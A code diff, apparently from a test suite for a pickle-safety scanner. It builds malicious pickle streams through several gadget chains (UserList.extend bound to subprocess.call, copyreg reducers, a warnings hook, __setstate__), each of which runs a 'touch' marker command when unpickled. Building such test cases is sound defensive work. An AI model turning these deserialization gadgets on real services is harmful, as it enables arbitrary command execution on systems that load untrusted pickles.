@@ -34,9 +34,9 @@ _WAYS: dict[str, tuple[str, Callable[[Place], bytes]]] = {
         lambda p: build(build(_EMPTY, {"__setstate__": EXEC}), p.code),
     ),
     "slots of a class": (
-        "a class gets another append",
-        lambda p: build(name("collections", "UserList"), (None, {"append": SYSTEM})) + POP
-        + call(name("collections", "UserList")) + text(p.command) + APPEND,
+        "a class gets another extend",
+        lambda p: build(name("collections", "UserList"), (None, {"extend": call(name("functools", "partial"), name("subprocess", "call"))})) + POP
+        + call(name("collections", "UserList")) + b"(" + text("touch") + text(p.marker) + b"e",
     ),
     "slots of a class, items": (
         "a class gets another __setitem__",
@@ -91,13 +91,13 @@ _WAYS: dict[str, tuple[str, Callable[[Place], bytes]]] = {
     ),
     "pickle's own table": (
         "a reducer is registered, then something is copied",
-        lambda p: call(name("copyreg", "pickle"), name("fractions", "Fraction"), any_arguments(p)) + POP
-        + call(name("copy", "copy"), call(name("fractions", "Fraction"), 1)),
+        lambda p: call(name("copyreg", "pickle"), name("types", "SimpleNamespace"), any_arguments(p)) + POP
+        + call(name("copy", "copy"), _EMPTY),
     ),
     "type of a warning": (
         "a hook for warnings, then one",
         lambda p: call(name("builtins", "setattr"), name("logging", "warnings"), "showwarning", any_arguments(p))
-        + POP + call(name("warnings", "warn"), "x"),
+        + POP + call(name("warnings", "simplefilter"), "always") + POP + call(name("warnings", "warn"), "x"),
     ),
 }  # fmt: skip
 
